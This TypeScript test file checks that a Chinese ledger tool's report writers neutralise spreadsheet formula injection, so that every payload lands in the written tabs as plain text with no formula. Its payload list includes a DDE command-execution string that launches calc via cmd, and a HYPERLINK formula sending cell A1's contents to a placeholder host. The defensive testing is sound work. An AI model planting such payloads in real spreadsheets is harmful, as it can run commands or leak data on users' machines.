/**
 * Formula injection end to end (issue 8): ledger cells and a sheet name holding text that a spreadsheet would
 * run as a formula (= + - @ tab CR), through the real engine and the report builders, into both writers and out
 * of both file faces (the command line's report, the standalone page's download). The writers' own tests feed
 * hand-made layouts (test/reports-writers, test/ports/excel); here the strings take the way real data takes.
 */
import { readFileSync, writeFileSync } from "fs";
import { join } from "path";
import ExcelJS from "exceljs";
import JSZip from "jszip";
import { buildReports, isFormulaLike, layoutReport, REPORT_TABS, type ReportLayout } from "../../src/core/reports";
import { kindSpec } from "../../src/core/ledgers";
import { BUILTIN_PROFILE } from "../../src/core/profile";
import type { Profile } from "../../src/core/profile/types";
import { SETTINGS_SHEET, settingsToCells } from "../../src/core/read";
import type { SheetData } from "../../src/core/read/types";
import { checkWorkbook, type CheckResult } from "../../src/core/check";
import { openWorkbookFile } from "../../src/ports/file/browser/browser-port";
import { readXlsx } from "../../src/ports/file/shared/read";
import { reportCopy } from "../reports-writers/fixtures";
import { writeSettings } from "../../src/ports/file/shared/settings";
import { writeReportTabsExcel } from "../../src/ports/excel/report-writer";
import { run } from "../cli/helpers";
import { tempDir } from "../ports/file/fixtures";
import { INJECTIONS } from "../reports-writers/fixtures";
import { cellAt, createExcelHost } from "../support/simulated-excel";

jest.setTimeout(120000);

const SAMPLE = join(__dirname, "..", "..", "samples", "样例台账.xlsx");
const NOW = new Date(Date.UTC(2022, 10, 15, 8));
const LEADS = ["=", "+", "-", "@", "\t", "\r"];
/** Every formula lead, each as a bare formula and as one that would reach out (DDE, links). */
const PAYLOADS = [
  ...INJECTIONS.filter(isFormulaLike),
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+HYPERLINK(\"http://example.invalid/?\"&A1,\"x\")",
  "-1+1",
  "\t@SUM(A1)",
  "\r+1",
];
const RENAMED = { from: "三个一批", to: "=三个一批" };
const tmp = tempDir();
afterAll(() => tmp.remove());

let injected: Uint8Array;
let layouts: ReportLayout[];

/**
 * A profile in `_gx` whose indicator, county and industry names are payloads (the old names kept as aliases, so
 * the ledgers still match): they are what the tabs of targets, counties and industries print.
 */
function injectedProfile(): Profile {
  const p = JSON.parse(JSON.stringify(BUILTIN_PROFILE)) as Profile;
  const lead = (i: number) => PAYLOADS[i % PAYLOADS.length];
  p.targets.forEach((x, i) => Object.assign(x, { name: lead(i) + x.name, aliases: [...x.aliases, x.name] }));
  p.regions.forEach((x, i) => Object.assign(x, { name: lead(i) + x.name, aliases: [...x.aliases, x.name] }));
  p.industries.forEach((x, i) => Object.assign(x, { name: lead(i) + x.name, synonyms: [...x.synonyms, x.name] }));
  return p;
}

/** Where the payloads go: in every fourth record its free-text cells (so it is still listed by the tabs), and in
 * every fourth record after that all its cells (so its findings quote them). */
function* targets(check: CheckResult): Generator<{ sheet: string; row: number; col: number }> {
  for (const s of check.sheets) {
    const spec = kindSpec(s.kind);
    const free = new Set(spec.columns.filter((c) => c.type === "name" || c.type === "text").map((c) => c.key));
    for (const [i, rec] of s.records.entries()) {
      if (i % 4 === 1) for (const c of s.columns) if (free.has(c.key)) yield { sheet: s.sheet, row: rec.row, col: c.col };
      if (i % 4 === 3) for (const c of s.columns) yield { sheet: s.sheet, row: rec.row, col: c.col };
    }
  }
}

beforeAll(async () => {
  const bytes = readFileSync(SAMPLE);
  const data = await readXlsx(bytes, "样例台账.xlsx");
  const places = [...targets(checkWorkbook(data, { today: NOW }))];

  // As Excel hands values to the add-in (a carriage return included), for the layouts.
  places.forEach(({ sheet, row, col }, k) => {
    const rows = (data.sheets.find((x) => x.name === sheet) as SheetData).rows;
    const r = (rows[row - 1] ??= []);
    r[col - 1] = PAYLOADS[k % PAYLOADS.length];
  });
  (data.sheets.find((x) => x.name === RENAMED.from) as SheetData).name = RENAMED.to;
  data.sheets.push({ name: SETTINGS_SHEET, rows: settingsToCells({ profile: injectedProfile() }).map((c) => [c]), merges: [], state: "veryHidden" });
  layouts = buildReports(checkWorkbook(data, { today: NOW }), { lang: "zh-CN", now: NOW, workbookName: "=注入.xlsx" }).map(layoutReport);

  // As a file holds them, for the file faces (XML turns a bare carriage return into a line feed).
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes as unknown as ExcelJS.Buffer);
  places.forEach(({ sheet, row, col }, k) => ((wb.getWorksheet(sheet) as ExcelJS.Worksheet).getCell(row, col).value = PAYLOADS[k % PAYLOADS.length]));
  (wb.getWorksheet(RENAMED.from) as ExcelJS.Worksheet).name = RENAMED.to;
  writeSettings(wb, { profile: injectedProfile() });
  injected = new Uint8Array(await wb.xlsx.writeBuffer());
});

/** The formula-like strings each tab's layout carries. */
function payloadsIn(layout: ReportLayout): string[] {
  return layout.cells.flatMap((c) => (typeof c.value === "string" && isFormulaLike(c.value) ? [c.value] : []));
}

test("the payloads reach every tab, each lead at least once", () => {
  const byTab = Object.fromEntries(layouts.map((l) => [l.tab, payloadsIn(l)]));
  const all = Object.values(byTab).flat();
  for (const lead of LEADS) expect(all.some((s) => s.startsWith(lead))).toBe(true);
  expect(byTab["校验结果"]).toContain(RENAMED.to);
  // 校验结果 quotes the ledgers' cells; the other tabs print the profile's indicator, county and industry names.
  expect(Object.entries(byTab).filter(([, v]) => v.length > 0).map(([tab]) => tab)).toEqual([...REPORT_TABS]);
});

/** The sheet XML of each written tab, from a saved .xlsx: what any spreadsheet program will read. */
async function tabXml(bytes: Uint8Array, tabs: readonly string[]): Promise<Map<string, string>> {
  const zip = await JSZip.loadAsync(bytes);
  const workbook = await (zip.file("xl/workbook.xml") as JSZip.JSZipObject).async("string");
  const rels = await (zip.file("xl/_rels/workbook.xml.rels") as JSZip.JSZipObject).async("string");
  const out = new Map<string, string>();
  for (const m of workbook.matchAll(/<sheet [^>]*name="([^"]+)"[^>]*r:id="([^"]+)"/g)) {
    const name = m[1].replace(/&amp;/g, "&").replace(/&quot;/g, '"').replace(/&lt;/g, "<").replace(/&gt;/g, ">").replace(/&apos;/g, "'");
    if (!tabs.includes(name)) continue;
    const target = new RegExp(`Id="${m[2]}"[^>]*Target="([^"]+)"`).exec(rels)?.[1] ?? new RegExp(`Target="([^"]+)"[^>]*Id="${m[2]}"`).exec(rels)?.[1];
    out.set(name, await (zip.file(`xl/${(target as string).replace(/^\/?xl\//, "")}`) as JSZip.JSZipObject).async("string"));
  }
  return out;
}

/** No formula anywhere in the written tabs, and every payload of the layouts is a string cell with exactly that text. */
async function expectInert(bytes: Uint8Array, written: readonly string[]): Promise<void> {
  const xml = await tabXml(bytes, written);
  expect([...xml.keys()].sort()).toEqual([...written].sort());
  for (const [tab, sheet] of xml) expect({ tab, formulas: sheet.match(/<f[ >][^<]*/g) ?? [] }).toEqual({ tab, formulas: [] });
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(Buffer.from(bytes) as unknown as ExcelJS.Buffer);
  for (const layout of layouts) {
    const name = written.find((w) => w === layout.tab || w.startsWith(`${layout.tab}(`)) as string;
    const ws = wb.getWorksheet(name) as ExcelJS.Worksheet;
    for (const c of layout.cells) {
      if (typeof c.value !== "string" || !isFormulaLike(c.value)) continue;
      const cell = ws.getCell(c.row, c.col);
      const text = typeof cell.value === "object" && cell.value !== null && "richText" in cell.value ? cell.value.richText.map((r) => r.text).join("") : cell.value;
      expect({ at: `${name}!${cell.address}`, type: cell.type, text }).toEqual({ at: `${name}!${cell.address}`, type: ExcelJS.ValueType.String, text: c.value });
    }
  }
}

test("the file writer: no formula in any tab, every payload a text cell", async () => {
  const { result, out } = await reportCopy(injected, layouts);
  expect(result.written.sort()).toEqual([...REPORT_TABS].sort());
  await expectInert(out, result.written);
});

test("the Office.js writer: no formula in any tab, every payload the same text", async () => {
  const host = createExcelHost({ sheets: [{ name: "百家重点企业", values: [["企业名称"]] }, { name: RENAMED.to, values: [["企业名称"]] }] });
  await host.Excel.run((context) => writeReportTabsExcel(context as unknown as Excel.RequestContext, layouts));
  for (const layout of layouts) {
    const ws = host.sheet(layout.tab);
    expect({ tab: layout.tab, formulas: [...ws.cells.values()].filter((c) => c.formula).map((c) => c.formula) }).toEqual({ tab: layout.tab, formulas: [] });
    for (const c of layout.cells) {
      if (typeof c.value !== "string" || !isFormulaLike(c.value)) continue;
      expect({ at: [layout.tab, c.row, c.col], value: cellAt(ws, c.row, c.col)?.value }).toEqual({ at: [layout.tab, c.row, c.col], value: c.value });
    }
  }
});

test("gx-ledger report: the saved copy's tabs hold no formula", async () => {
  const input = tmp.path("=注入.xlsx");
  writeFileSync(input, injected);
  const out = tmp.path("报表.xlsx");
  const r = await run(["report", input, "--out", out]);
  expect(r.status).toBe(0);
  const bytes = new Uint8Array(readFileSync(out));
  const xml = await tabXml(bytes, REPORT_TABS);
  expect(xml.size).toBe(REPORT_TABS.length);
  for (const [tab, sheet] of xml) expect({ tab, formulas: sheet.match(/<f[ >][^<]*/g) ?? [] }).toEqual({ tab, formulas: [] });
  // The payloads are there, as text, in every tab.
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(Buffer.from(bytes) as unknown as ExcelJS.Buffer);
  for (const tab of REPORT_TABS) {
    const texts: string[] = [];
    (wb.getWorksheet(tab) as ExcelJS.Worksheet).eachRow((row) => row.eachCell((c) => void (c.type === ExcelJS.ValueType.String && texts.push(String(c.value)))));
    expect({ tab, payload: texts.some(isFormulaLike) }).toEqual({ tab, payload: true });
  }
});

test("the standalone page's download: no formula in any tab, every payload a text cell", async () => {
  const buffer = injected.buffer.slice(injected.byteOffset, injected.byteOffset + injected.byteLength) as ArrayBuffer;
  const port = await openWorkbookFile(buffer, "=注入.xlsx");
  const written = await port.writeReports(layouts);
  await expectInert(new Uint8Array(await (await port.download()).arrayBuffer()), written.written);
});
